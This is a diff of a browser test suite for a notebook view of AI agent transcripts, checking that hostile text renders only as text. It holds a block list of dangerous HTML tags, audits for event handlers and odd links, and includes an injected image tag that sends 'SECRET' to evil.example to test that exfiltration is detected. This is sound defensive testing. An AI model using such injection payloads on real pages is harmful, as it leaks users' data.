@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import json
+import re
 from typing import TYPE_CHECKING, cast
 
 import pytest
 
-from tests.browser.stage import DATA, Stage, item, transcript
+from tests.browser.stage import DATA, Stage, events, item, transcript
 
 if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
     from codex_nb.protocol.messages import Json, JsonObject
 
 pytestmark = pytest.mark.browser
@@ -51,43 +54,54 @@ ALLOWED_IN_MARKDOWN = {
     "pre": {"tabindex"},
 }
 TAGS = {
-    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li",
-    "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+    "a", "blockquote", "br", "code", "del", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
+    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
 }  # fmt: skip
+# What stands in Markdown and is made by the view.
 OURS = {
+    "button.cnb-button cnb-iconbutton cnb-copy",
     "div.cnb-block",
-    "div.cnb-table",
     "div.cnb-code",
-    "button.cnb-button cnb-copy",
+    "div.cnb-codehead",
+    "div.cnb-table",
+    "li.cnb-task",
+    "p.cnb-raw",
+    "path.",
     "pre.cnb-plain",
+    "span.cnb-check",
+    "span.cnb-formula",
+    "span.cnb-formula cnb-display",
+    "span.cnb-language",
+    "span.cnb-otherhost",
+    "span.cnb-spoken",
+    "svg.cnb-icon",
 }
+NEVER = {
+    "audio", "base", "embed", "form", "frame", "iframe", "img", "link", "math", "meta", "object",
+    "picture", "script", "source", "style", "template", "video",
+}  # fmt: skip
 
 AUDIT = """() => [...document.querySelectorAll(".cnb *")].map((it) => [
   it.localName,
   it.getAttribute("class") ?? "",
   it.getAttributeNames(),
   it.closest(".cnb-markdown") !== null && !it.matches(".cnb-markdown"),
-  it.getAttribute("href") ?? "",
+  it.localName === "a" ? it.href : "",
+  it.id,
 ])"""
+OWN_DATA = {"data-cnb-level", "data-lm-suppress-shortcuts"}
+# By such an id a label of the view finds its box.
+OWN_ID = re.compile(r"cnb-[a-z-]+-\d+-\d+")
 
 
 def audit(stage: Stage) -> list[str]:
     """What stands in the view and has no business there."""
     strange = []
-    for tag, style, attributes, is_markdown, href in stage.page.evaluate(AUDIT):
-        names = set(attributes) - {"data-lm-suppress-shortcuts"}  # ours, on boxes that scroll
-        if tag in {
-            "script",
-            "style",
-            "iframe",
-            "img",
-            "video",
-            "object",
-            "form",
-            "link",
-            "meta",
-            "base",
-        }:
+    for tag, style, attributes, is_markdown, href, key in stage.page.evaluate(AUDIT):
+        names = set(attributes) - OWN_DATA
+        if not is_markdown and OWN_ID.fullmatch(key):
+            names.remove("id")
+        if tag in NEVER or (tag == "svg" and style != "cnb-icon"):
             strange.append(tag)
         if any(
             name.startswith(("on", "data-")) or name in {"id", "src", "srcdoc", "name"}
@@ -96,22 +110,39 @@ def audit(stage: Stage) -> list[str]:
             strange.append(f"{tag} {sorted(names)}")
         if style and not all(part.startswith("cnb-") for part in style.split()):
             strange.append(f"{tag}.{style}")
+        if tag == "a" and not href.startswith(("http://", "https://", "mailto:")):
+            strange.append(href)
         if not is_markdown or f"{tag}.{style}" in OURS:
             continue
         if tag not in TAGS or names - ALLOWED_IN_MARKDOWN.get(tag, set()):
             strange.append(f"{tag} {sorted(names)} in Markdown")
-        if tag == "a" and not href.lower().startswith(("http://", "https://", "mailto:")):
-            strange.append(href)
-    if stage.page.evaluate("() => window.pwned ?? window.hostile ?? null") is not None:
+    polluted = "() => window.pwned ?? window.hostile ?? ({}).hostile ?? null"
+    if stage.page.evaluate(polluted) is not None:
         strange.append("script ran")
     return strange
+
+
+def unfold(stage: Stage) -> None:
+    """Open everything that opens, of which some is only made then."""
+    for button in stage.root.get_by_role("button", name="Details").all():
+        button.click()
+    stage.page.evaluate(
+        """() => {
+          for (const it of document.querySelectorAll("details")) it.open = true;
+          for (const it of document.querySelectorAll(".cnb-filefold[aria-expanded=false]"))
+            it.click();
+        }"""
+    )
+    stage.settle()
 
 
 def everywhere(text: str) -> JsonObject:
     """A transcript with a text in each field that a model, a tool or a file can fill."""
     kinds: dict[str, JsonObject] = {
-        "userMessage": {},
-        "agentMessage": {},
+        "userMessage": {
+            "content": [{"type": text, "name": text, "path": text, "url": text}],
+        },
+        "agentMessage": {"questions": [{"title": text, "options": [text, {"label": text}]}]},
         "plan": {},
         "reasoning": {},
         "commandExecution": {"command": text, "cwd": text, "exitCode": 1},
@@ -140,9 +171,23 @@ def everywhere(text: str) -> JsonObject:
                 {"type": "inputImage", "imageUrl": "https://evil.example/i.png"},
             ],
         },
-        "webSearch": {"query": text, "action": {"type": "search", "query": text, "url": text}},
+        "webSearch": {
+            "query": text,
+            "action": {"type": "openPage", "queries": [text, text], "url": text},
+            "results": [{"title": text, "url": text, "snippet": text}],
+        },
+        "functionCallOutput": {"name": text, "namespace": text, "output": text},
+        "hookPrompt": {"fragments": [{"text": text}]},
         "imageView": {"path": text},
-        "collabAgentToolCall": {"tool": text, "prompt": text},
+        "imageGeneration": {"result": text, "savedPath": text, "revisedPrompt": text},
+        "collabAgentToolCall": {
+            "tool": text,
+            "prompt": text,
+            "model": text,
+            "agentsStates": {text[:99]: {"status": text, "message": text}},
+        },
+        "subAgentActivity": {"kind": text, "agentPath": text, "model": text},
+        "enteredReviewMode": {"review": text},
         "exitedReviewMode": {"review": text},
         text[:50] or "unknown": {"value": text},
     }
@@ -179,14 +224,51 @@ def everywhere(text: str) -> JsonObject:
 @pytest.mark.parametrize("name", HOSTILE)
 def test_hostile_text_stays_text(stage: Stage, name: str) -> None:
     stage.show(everywhere(HOSTILE[name]))
-    for button in stage.root.get_by_role("button", name="Details").all():
-        button.click()
-    stage.page.evaluate(
-        "() => document.querySelectorAll('details').forEach((it) => { it.open = true; })"
-    )
-    stage.settle()
+    unfold(stage)
 
     assert audit(stage) == []
+
+
+def test_hostile_text_stays_text_in_every_state_of_a_message_that_streams(stage: Stage) -> None:
+    stage.show(transcript(item("agentMessage", status="in_progress")))
+    whole = "\n\n".join(text[:2000] for text in HOSTILE.values())
+    pieces = [whole[start : start + 400] for start in range(0, len(whole), 400)]
+    append: JsonObject = {"op": "append", "in": "items", "id": "i", "field": "text"}
+    for n, piece in enumerate(pieces):
+        stage.send(events(n, {**append, "text": piece}))
+    final = item("agentMessage", text=whole)
+    stage.send(events(len(pieces), {"op": "put", "in": "items", "value": final}))
+
+    assert audit(stage) == []
+
+
+@pytest.mark.parametrize("kind", ["agentMessage", "commandExecution", "mcpToolCall", "userMessage"])
+def test_ten_megabytes_without_a_line_end_leave_the_page_usable(stage: Stage, kind: str) -> None:
+    stage.page.evaluate(
+        """([transcript]) => {
+          const item = transcript.items[0];
+          item.text = item.output = "x".repeat(10_000_000);
+          item.body = { command: item.text, tool: item.text, arguments: { a: item.text } };
+          const model = makeModel({ snapshot: { n: 1, transcript }, window: null });
+          const before = performance.now();
+          view.default.render({ model, el: document.getElementById("out") });
+          document.body.getBoundingClientRect();
+          window.took = performance.now() - before;
+        }""",
+        [transcript(item(kind))],
+    )
+
+    assert stage.page.evaluate("() => window.took") < 2000
+
+
+def test_terminal_sequences_reach_the_page_as_nothing(stage: Stage) -> None:
+    text = "".join(text for name, text in HOSTILE.items() if name.startswith("terminal"))
+    stage.show(transcript(item("commandExecution", status="in_progress", output=text)))
+
+    shown = stage.root.locator(".cnb-terminal").inner_text()
+
+    assert "SECRET" not in shown
+    assert not {"\x1b", "\x07", "\x9d"} & set(shown)
 
 
 def test_the_audit_finds_what_it_looks_for(stage: Stage) -> None:
@@ -203,54 +285,16 @@ def test_the_audit_finds_what_it_looks_for(stage: Stage) -> None:
     assert len(audit(stage)) >= 7
 
 
-def test_links_are_marked_and_show_where_they_lead(stage: Stage) -> None:
-    stage.show(
-        transcript(
-            item(
-                "agentMessage",
-                text="[docs](https://a.example/x) <me@a.example> [f](src/a.py) www.b.example",
-            )
+def test_a_request_is_found_that_a_weakness_would_make(chromium: Browser) -> None:
+    stage = Stage(chromium)
+    stage.show(transcript(item("agentMessage", text="x")))
+    with stage.page.expect_event("requestfailed"):
+        stage.page.evaluate(
+            """() => {
+              const block = document.querySelector(".cnb-block");
+              block.innerHTML = "<img src=https://evil.example/?q=SECRET>";
+            }"""
         )
-    )
+    stage.close()
 
-    links = stage.root.locator("a").evaluate_all(
-        "(all) => all.map((a) => [a.textContent, a.getAttribute('href'), a.target, a.rel, a.title])"
-    )
-
-    safe = ["_blank", "noopener noreferrer nofollow"]
-    assert links == [
-        ["docs", "https://a.example/x", *safe, "https://a.example/x"],
-        ["me@a.example", "mailto:me@a.example", *safe, "mailto:me@a.example"],
-        ["www.b.example", "http://www.b.example", *safe, "http://www.b.example"],
-    ]
-    assert stage.root.locator(".cnb-message").inner_text() == "docs me@a.example f www.b.example"
-
-
-def test_formulas_and_raw_html_stay_as_they_were_written(stage: Stage) -> None:
-    text = r"$a_1 *b* c_2$ and \(x_1\) and \[y\] and $$z_{*}$$, but $5 and $6; <b>bold</b>"
-    stage.show(transcript(item("agentMessage", text=text)))
-
-    assert stage.root.locator(".cnb-message").inner_text() == text
-    assert stage.root.locator(".cnb-message em, .cnb-message b").count() == 0
-
-
-def test_markdown_is_drawn(stage: Stage) -> None:
-    text = (
-        "# T\n\n**b** *i* ~~d~~ `c`\n\n3. x\n4. y\n   - z\n\n- [x] done\n- [ ] open\n\n> q\n\n"
-        "|a|b|\n|-:|:-|\n|1|2|\n\n```py\nx < 1\n```\n\n---"
-    )
-    stage.show(transcript(item("agentMessage", text=text)))
-
-    drawn = stage.root.locator(".cnb-markdown").inner_html().replace("\n", "")
-
-    assert drawn.replace('<div class="cnb-block">', "").replace("</div>", "") == (
-        "<h1>T</h1><p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code></p>"
-        '<ol start="3"><li>x</li><li>y<ul><li>z</li></ul></li></ol>'
-        "<ul><li>☑ done</li><li>☐ open</li></ul><blockquote><p>q</p></blockquote>"
-        '<div class="cnb-table"><table>'
-        '<thead><tr><th align="right">a</th><th align="left">b</th></tr></thead>'
-        '<tbody><tr><td align="right">1</td><td align="left">2</td></tr></tbody></table>'
-        '<div class="cnb-code"><pre tabindex="0" data-lm-suppress-shortcuts="true">'
-        "<code>x &lt; 1</code></pre>"
-        '<button class="cnb-button cnb-copy" type="button">Copy</button><hr>'
-    )
+    assert stage.problems == ["requested https://evil.example/?q=SECRET"]
